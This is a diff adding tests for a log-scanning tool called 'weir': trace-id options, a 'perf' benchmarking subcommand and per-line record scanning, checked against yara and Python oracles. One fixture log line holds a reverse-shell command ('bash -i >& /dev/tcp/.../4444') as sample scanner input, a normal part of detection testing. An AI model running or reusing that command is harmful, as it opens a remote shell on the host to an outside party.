@@ -585,6 +585,157 @@ if not ok:
 sys.exit(0 if ok else 1)
 EOF
 
+# ---- trace ids: --trace-json, --trace-regex, --no-trace ------------------------------
+
+"$WEIR" scan --help >"$tmp/out"
+check "scan --help shows the trace options" grep -q -- '--trace-regex' "$tmp/out"
+expect_exit "--trace-regex that does not compile" 2 "$WEIR" scan --trace-regex 'id=(' \
+    -r examples/rules/auth.yar examples/logs/app.log
+if grep -qxF 'weir: --trace-regex: unmatched ( or \(' "$tmp/err"; then t_ok; else
+    t_fail "--trace-regex that does not compile: message"
+    show "$tmp/err"
+fi
+expect_exit "--trace-regex without a group" 2 "$WEIR" scan --trace-regex 'id=[0-9]+' \
+    -r examples/rules/auth.yar examples/logs/app.log
+if grep -q '^weir: --trace-regex: no capture group' "$tmp/err"; then t_ok; else
+    t_fail "--trace-regex without a group: message"
+    show "$tmp/err"
+fi
+expect_exit "--trace-json with an empty name" 2 "$WEIR" scan --trace-json 'req..id' \
+    -r examples/rules/auth.yar examples/logs/app.log
+expect_exit "--trace-json without argument" 2 "$WEIR" scan -r examples/rules/auth.yar \
+    examples/logs/app.log --trace-json
+expect_exit "two trace options" 2 "$WEIR" scan --trace-json a --no-trace \
+    -r examples/rules/auth.yar examples/logs/app.log
+expect_exit "--trace-regex twice" 2 "$WEIR" scan --trace-regex '(a)' --trace-regex '(b)' \
+    -r examples/rules/auth.yar examples/logs/app.log
+
+# JSON lines whose field, quoted string and regex group all differ, with nested objects and
+# arrays to skip, escapes, a number, a line that is not JSON, lines without the field and
+# text after the object (ignored: weir reads only as far as the field).
+cat >"$tmp/trace.jsonl" <<'EOF'
+{"ts":"11:02:13","msg":"login ok","req":{"id":"r-100","path":"/login"},"note":"q-1"}
+{"ts":"11:02:40","msg":"Failed password for carol","req":{"hdr":{"id":"not-this"},"tags":["a","]}"],"id":"r-101"},"note":"q-2"} src=10.0.0.1
+{"ts":"11:02:41","msg":"Failed password for \"carol\"","req":{"id":"r-\u00e9\u0031"},"note":"q-3"}
+not JSON: Failed password for root "q-4" src=10.0.0.4
+{"ts":"11:02:43","msg":"Failed password for bob","req":{"id":7},"note":"q-5"}
+{"ts":"11:02:44","msg":"Failed password for eve","req":"none","note":"q-6"} src=10.0.0.6
+{"ts":"11:02:45","msg":"Failed password for eve","note":"q-7"}
+{"ts":"11:02:46","msg":"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1","req":{"id":"r-107"}}
+EOF
+# trace_check.py OUT LOG MODE ARG: every trace id in the events is that of its line as the
+# mode defines it (computed here independently of weir), and the first live rule has its
+# line's id.
+cat >"$tmp/trace_check.py" <<'EOF'
+import json, re, sys
+out, log, mode, arg = sys.argv[1:5]
+data = open(log, "rb").read()
+lines = data.split(b"\n")
+
+def quoted(line):
+    last, cur, esc = None, None, False
+    for b in line[:65536]:
+        c = bytes([b])
+        if esc:
+            esc = False
+            cur = cur + c if cur is not None else None
+        elif c == b"\\":
+            esc = True
+            cur = cur + c if cur is not None else None
+        elif c == b'"':
+            last, cur = (cur, None) if cur is not None else (last, b"")
+        elif cur is not None:
+            cur += c
+    return None if last is None else last[:256].decode("utf-8", "replace")
+
+def field(line):
+    # weir reads a line only as far as the field: text after the object does not matter.
+    try:
+        v = json.JSONDecoder().raw_decode(line.decode("utf-8").lstrip(" \t\r"))[0]
+    except ValueError:
+        return None
+    for name in arg.split("."):
+        if not isinstance(v, dict) or name not in v:
+            return None
+        v = v[name]
+    if isinstance(v, bool) or v is None:
+        return json.dumps(v)
+    if isinstance(v, (str, int)):
+        return str(v)
+    return None
+
+def group(line):
+    m = re.search(arg.encode(), line)
+    return None if not m or m.group(1) is None else m.group(1).decode("utf-8", "replace")
+
+ext = {"quoted": quoted, "json": field, "regex": group, "none": lambda l: None}[mode]
+ids = [ext(l) for l in lines]
+events = [json.loads(l) for l in open(out)]
+errors = []
+first = next(i for i, l in enumerate(lines) if b"Failed password for " in l)
+matches = [e for e in events if e["event"] == "match"]
+if not matches:
+    errors.append("no match events")
+for e in matches:
+    if any(t not in ids for t in e["trace_ids"]):
+        errors.append("%s: trace ids %r not among the lines' %r" % (e["rule"], e["trace_ids"], ids))
+    if e["rule"] == "ssh_failed_password":
+        want = [ids[first]] if ids[first] is not None else []
+        if e["trace_ids"] != want:
+            errors.append("ssh_failed_password: trace ids %r, want %r" % (e["trace_ids"], want))
+    if mode == "none" and e["trace_ids"]:
+        errors.append("--no-trace: %r" % e)
+nstrings = 0
+for e in events:
+    for m in e.get("strings", []):
+        nstrings += 1
+        n = data[:m["offset"] + m["length"] - 1].count(b"\n")
+        if m["trace_id"] != ids[n]:
+            errors.append("%s at %d (line %d): trace id %r, want %r"
+                          % (m["id"], m["offset"], n + 1, m["trace_id"], ids[n]))
+if not nstrings:
+    errors.append("no string matches")
+for e in errors[:10]:
+    print(e)
+sys.exit(1 if errors else 0)
+EOF
+trace_case() { # NAME LOG MODE ARG WEIR-OPTION...
+    local name=$1 log=$2 mode=$3 arg=$4 chunk
+    shift 4
+    for chunk in "" "--chunk-size 1" "--chunk-size 7 --chunk-seed 3"; do
+        # shellcheck disable=SC2086
+        "$WEIR" scan --json -s $chunk "$@" -r examples/rules/auth.yar "$log" >"$tmp/json" \
+            2>"$tmp/err"
+        if python3 "$tmp/trace_check.py" "$tmp/json" "$log" "$mode" "$arg" >"$tmp/pyerr" 2>&1; then
+            t_ok
+        else
+            t_fail "$name ${chunk:-whole}"
+            show "$tmp/pyerr"
+        fi
+    done
+}
+trace_case "quoted trace ids (default)" "$tmp/trace.jsonl" quoted ""
+trace_case "quoted trace ids, app.log" examples/logs/app.log quoted ""
+trace_case "--trace-json req.id" "$tmp/trace.jsonl" json req.id --trace-json req.id
+trace_case "--trace-json note" "$tmp/trace.jsonl" json note --trace-json note
+trace_case "--trace-regex src=" "$tmp/trace.jsonl" regex 'src=([0-9.]+)' \
+    --trace-regex 'src=([0-9.]+)'
+trace_case "--trace-regex on app.log" examples/logs/app.log regex 'T[0-9]+:[0-9]+:([0-9]+)Z' \
+    --trace-regex 'T[0-9]+:[0-9]+:([0-9]+)Z'
+trace_case "--no-trace" "$tmp/trace.jsonl" none "" --no-trace
+# The same ids spelled out, in case the checker above agreed with weir by mistake.
+"$WEIR" scan --json --trace-json req.id -r examples/rules/auth.yar "$tmp/trace.jsonl" \
+    >"$tmp/json" 2>"$tmp/err"
+check "--trace-json: the bruteforce event's ids" python3 - "$tmp/json" <<'EOF'
+import json, sys
+ev = [e for e in map(json.loads, open(sys.argv[1]))
+      if e["event"] == "match" and e["rule"] == "ssh_bruteforce"]
+ok = len(ev) == 1 and ev[0]["trace_ids"] == ["r-101", "r-\u00e91", "7"]
+if not ok:
+    print(ev)
+sys.exit(0 if ok else 1)
+EOF
+
 # JSON events per stream do not depend on chunking (memory aside).
 normalize() {
     python3 -c '
@@ -638,6 +789,207 @@ done
 expect_exit "text file as compiled rules" 3 "$WEIR" scan -C examples/rules/auth.yar \
     examples/logs/sshd.log
 expect_exit "missing compiled rules" 3 "$WEIR" scan -C "$tmp/none.wr" examples/logs/sshd.log
+
+# ---- weir perf ------------------------------------------------------------------
+
+expect_exit "perf -c 0" 2 "$WEIR" perf -c 0 -r examples/rules/auth.yar -i examples/logs/sshd.log
+expect_exit "perf -c junk" 2 "$WEIR" perf -c 3x -r examples/rules/auth.yar examples/logs/sshd.log
+expect_exit "perf -c negative" 2 "$WEIR" perf -c -1 -r examples/rules/auth.yar \
+    examples/logs/sshd.log
+expect_exit "perf without rules" 2 "$WEIR" perf -c 3 -i examples/logs/sshd.log
+expect_exit "perf without files" 2 "$WEIR" perf -c 3 -r examples/rules/auth.yar
+expect_exit "perf file given twice" 2 "$WEIR" perf -r examples/rules/auth.yar \
+    -i examples/logs/sshd.log examples/logs/sshd.log
+expect_exit "perf bad --memory-limit" 2 "$WEIR" perf --memory-limit 10Q \
+    -r examples/rules/auth.yar examples/logs/sshd.log
+expect_exit "perf two trace options" 2 "$WEIR" perf --no-trace --trace-json a \
+    -r examples/rules/auth.yar examples/logs/sshd.log
+expect_exit "perf missing file" 3 "$WEIR" perf -r examples/rules/auth.yar \
+    -i examples/logs/sshd.log -i "$tmp/no-such.log"
+if grep -q "no-such.log" "$tmp/err" && [ ! -s "$tmp/out" ]; then t_ok; else
+    t_fail "perf missing file: want the file named on stderr, nothing measured"
+    show "$tmp/err"
+fi
+expect_exit "perf directory input" 3 "$WEIR" perf -r examples/rules/auth.yar -i "$tmp"
+expect_exit "perf rule error" 1 "$WEIR" perf -r "$tmp/bad.yar" -i examples/logs/sshd.log
+expect_exit "perf --help" 0 "$WEIR" perf --help
+check "perf --help: usage" grep -q '^Usage: weir perf' "$tmp/out"
+"$WEIR" --help >"$tmp/out"
+check "weir --help lists perf" grep -q '^  perf ' "$tmp/out"
+
+perf_inputs=(examples/logs/*.log "$tmp/in/empty.log")
+for f in "$CORPUS/OpenSSH/OpenSSH_2k.log" "$CORPUS/Linux/Linux_2k.log"; do
+    [ -r "$f" ] && perf_inputs+=("$f")
+done
+# Independent expectations: sizes and lines from wc, match events from weir scan (each file one
+# stream), final results from yara.
+for f in "${perf_inputs[@]}"; do
+    printf '%s\t%s\t%s\n' "$f" "$(wc -c <"$f")" "$(wc -l <"$f")"
+done >"$tmp/perf_files"
+"$WEIR" scan --json -r examples/rules/auth.yar "${perf_inputs[@]}" >"$tmp/perf_scan"
+for f in "${perf_inputs[@]}"; do yara examples/rules/auth.yar "$f"; done >"$tmp/perf_yara" 2>/dev/null
+# perf_check.py PERF-JSON ROUNDS DIR: weir perf --json against the expectations in DIR.
+cat >"$tmp/perf_check.py" <<'PYEOF'
+import json, sys
+out, rounds, d = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+files = [l.rstrip("\n").split("\t") for l in open(d + "/perf_files")]
+scan = [json.loads(l) for l in open(d + "/perf_scan")]
+live = sum(1 for e in scan if e["event"] == "match" and not e["at_close"])
+at_close = sum(1 for e in scan if e["event"] == "match" and e["at_close"])
+yara = len(open(d + "/perf_yara").read().splitlines())
+objs = [json.loads(l) for l in open(out)]
+errors = []
+
+def need(c, m):
+    if not c:
+        errors.append(m)
+
+r = [o for o in objs if o.get("event") == "round"]
+st = {o["stream"]: o for o in objs if o.get("event") == "stream"}
+sm = [o for o in objs if o.get("event") == "summary"]
+need(len(objs) == len(r) + len(st) + len(sm), "unknown objects")
+need([o["round"] for o in r] == list(range(1, rounds + 1)), "rounds %r" % [o["round"] for o in r])
+total = sum(int(b) for _, b, _ in files)
+need(sum(o["bytes"] for o in r) == total,
+     "bytes per round sum to %d, files have %d" % (sum(o["bytes"] for o in r), total))
+need(r and r[-1]["total_bytes"] == total, "total_bytes %r, files have %d" % (r[-1:], total))
+need(all(o["streams"] == len(files) for o in r), "streams per round %r" % [o["streams"] for o in r])
+need(all(o["ns"] > 0 and o["memory"] > 0 for o in r), "ns or memory not positive")
+need(sum(o["events"] for o in r) == live,
+     "events over rounds %d, weir scan has %d" % (sum(o["events"] for o in r), live))
+need(r and r[-1]["matching"] == yara,
+     "matching after the last round %r, yara reports %d" % (r[-1:], yara))
+need(len(st) == len(files), "%d stream objects for %d files" % (len(st), len(files)))
+for path, size, lines in files:
+    s = st.get(path, {})
+    need(s.get("bytes") == int(size), "%s: bytes %r, wc -c %s" % (path, s.get("bytes"), size))
+    need(s.get("lines") == int(lines), "%s: lines %r, wc -l %s" % (path, s.get("lines"), lines))
+    need(s.get("memory") == sum(s.get("mem", {}).values()), "%s: memory is not its parts" % path)
+need(len(sm) == 1, "%d summaries" % len(sm))
+if sm:
+    need(sm[0]["bytes"] == total, "summary bytes %r" % sm[0]["bytes"])
+    need(sm[0]["events"] == live, "summary events %r, weir scan %d" % (sm[0]["events"], live))
+    need(sm[0]["events_at_close"] == at_close,
+         "events at close %r, weir scan %d" % (sm[0]["events_at_close"], at_close))
+    need(sm[0]["results"] == yara, "final results %r, yara %d" % (sm[0]["results"], yara))
+    need(sum(s.get("results", 0) for s in st.values()) == yara, "results per stream")
+    need(sm[0]["memory_stats"]["streams"] == len(files), "memory_stats %r" % sm[0]["memory_stats"])
+for e in errors[:10]:
+    print(e)
+sys.exit(1 if errors else 0)
+PYEOF
+for c in 1 3 7; do
+    "$WEIR" perf --json -c $c -r examples/rules/auth.yar -i "${perf_inputs[@]}" >"$tmp/perf" \
+        2>"$tmp/err"
+    if python3 -c 'import json,sys; [json.loads(l) for l in sys.stdin]' <"$tmp/perf"; then
+        t_ok
+    else
+        t_fail "perf -c $c --json: not JSON Lines"
+    fi
+    if python3 "$tmp/perf_check.py" "$tmp/perf" $c "$tmp" >"$tmp/pyerr" 2>&1; then t_ok; else
+        t_fail "perf -c $c --json"
+        show "$tmp/pyerr"
+    fi
+done
+# Rounds cut streams anywhere: after round k the rules matching are yara's on each file's first
+# k chunks (of len / ROUNDS bytes, the first len % ROUNDS of them one byte longer).
+"$WEIR" perf --json -c 7 -r examples/rules/auth.yar -i "${perf_inputs[@]}" >"$tmp/perf"
+check "perf -c 7: matching per round is yara's on the prefixes" python3 - "$tmp/perf" 7 \
+    "$tmp" "${perf_inputs[@]}" <<'PYEOF'
+import json, subprocess, sys
+out, rounds, d, files = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4:]
+r = [o for o in map(json.loads, open(out)) if o["event"] == "round"]
+bad = []
+for k in range(1, rounds + 1):
+    want = 0
+    for f in files:
+        data = open(f, "rb").read()
+        q, m = divmod(len(data), rounds)
+        open(d + "/prefix", "wb").write(data[:k * q + min(k, m)])
+        y = subprocess.run(["yara", "examples/rules/auth.yar", d + "/prefix"],
+                           capture_output=True, text=True).stdout
+        want += len(y.splitlines())
+    if r[k - 1]["matching"] != want:
+        bad.append("round %d: matching %r, yara %d" % (k, r[k - 1]["matching"], want))
+print("\n".join(bad))
+sys.exit(1 if bad else 0)
+PYEOF
+# Text output: a header, one line per round, then per stream, and the summary.
+"$WEIR" perf -c 3 -r examples/rules/auth.yar -i "${perf_inputs[@]}" >"$tmp/out" 2>"$tmp/err"
+n=$(awk '/^ *round /{h=1; next} h && /^$/{exit} h && /^ *[0-9]+ /{n++} END{print n+0}' "$tmp/out")
+if [ "$n" -eq 3 ]; then t_ok; else t_fail "perf -c 3 text: $n round lines, want 3"; fi
+want_results=$(wc -l <"$tmp/perf_yara")
+check "perf text: summary" grep -Eq \
+    "^summary: ${#perf_inputs[@]} streams, 3 rounds, .* $want_results final results$" "$tmp/out"
+for f in examples/logs/*.log; do
+    check "perf text: $f" grep -Eq "^ *$(wc -c <"$f") +$(wc -l <"$f") .* $f\$" "$tmp/out"
+done
+# Under a budget too small for any idle stream, every stream is evicted between its chunks and
+# restored: the events and results must not change.
+strip_perf() {
+    python3 -c '
+import json, sys
+for l in sys.stdin:
+    o = json.loads(l)
+    for k in ("ns", "mbps", "memory", "mem", "evicted", "string_matches", "rules_fired",
+              "memory_stats", "results_restores"):
+        o.pop(k, None)
+    print(json.dumps(o, sort_keys=True))'
+}
+"$WEIR" perf --json -c 7 -r examples/rules/auth.yar -i "${perf_inputs[@]}" | strip_perf \
+    >"$tmp/want"
+"$WEIR" perf --json -c 7 --memory-limit 1 -r examples/rules/auth.yar -i "${perf_inputs[@]}" \
+    >"$tmp/perf"
+strip_perf <"$tmp/perf" >"$tmp/got"
+same "perf --memory-limit 1: same events and results" "$tmp/want" "$tmp/got"
+check "perf --memory-limit 1: streams evicted and restored" python3 - "$tmp/perf" <<'PYEOF'
+import json, sys
+m = [json.loads(l) for l in open(sys.argv[1])][-1]["memory_stats"]
+ok = m["limit"] == 1 and m["evictions"] > 0 and m["restores"] > 0
+if not ok:
+    print(m)
+sys.exit(0 if ok else 1)
+PYEOF
+expect_exit "perf -C" 0 "$WEIR" perf -c 2 -C "$tmp/rules.wr" -i "${perf_inputs[@]}"
+check "perf -C: summary" grep -q "final results$" "$tmp/out"
+
+# --records: each line is a file of its own.  The oracle: yara on every line of the logs written
+# to a file of its own (without its newline), as "RULE STREAM:LINE".
+mkdir -p "$tmp/rec"
+: >"$tmp/rec_want"
+for f in examples/logs/*.log; do
+    n=0
+    while IFS= read -r line || [ -n "$line" ]; do
+        n=$((n + 1))
+        printf '%s' "$line" >"$tmp/rec/line"
+        yara -w examples/rules/auth.yar "$tmp/rec/line" | awk -v s="$f" -v n="$n" \
+            '{print $1, s ":" n}' >>"$tmp/rec_want"
+    done <"$f"
+done
+sort "$tmp/rec_want" -o "$tmp/rec_want"
+check "records: yara finds something" test -s "$tmp/rec_want"
+for chunk in 1 7 65536; do
+    "$WEIR" scan --records --chunk-size "$chunk" -r examples/rules/auth.yar examples/logs/*.log |
+        sort >"$tmp/rec_got"
+    same "scan --records --chunk-size $chunk = yara line by line" "$tmp/rec_want" "$tmp/rec_got"
+done
+"$WEIR" scan --records --json -r examples/rules/auth.yar examples/logs/sshd.log >"$tmp/rec_json"
+check "scan --records --json: one event per matching line, with its trace id" \
+    python3 - "$tmp/rec_json" examples/logs/sshd.log "$tmp/rec_want" <<'PYEOF'
+import json, re, sys
+ev = [json.loads(l) for l in open(sys.argv[1]) if '"match"' in l]
+lines = open(sys.argv[2]).read().split("\n")
+want = sorted(l.split()[0] + " " + l.split(":")[-1].strip() for l in open(sys.argv[3])
+              if sys.argv[2] + ":" in l)
+got = sorted(e["rule"] + " " + str(e["line"]) for e in ev)
+ok = got == want
+for e in ev:
+    q = re.findall(r'"((?:[^"\\]|\\.)*)"', lines[e["line"] - 1])
+    ok = ok and e["trace_ids"] == q[-1:]
+if not ok:
+    print(got, want)
+sys.exit(0 if ok else 1)
+PYEOF
 
 echo "$pass passed, $fail failed"
 [ "$fail" -eq 0 ]
